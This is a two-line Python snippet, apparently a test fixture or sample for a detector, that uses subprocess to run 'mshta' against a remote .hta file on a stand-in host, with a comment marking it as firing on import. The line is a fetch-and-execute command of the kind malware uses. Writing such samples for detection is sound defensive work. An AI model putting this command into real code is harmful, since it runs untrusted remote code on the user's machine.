import subprocess
subprocess.run("mshta https://code.invalid/x.hta", shell=True)  # fires: import
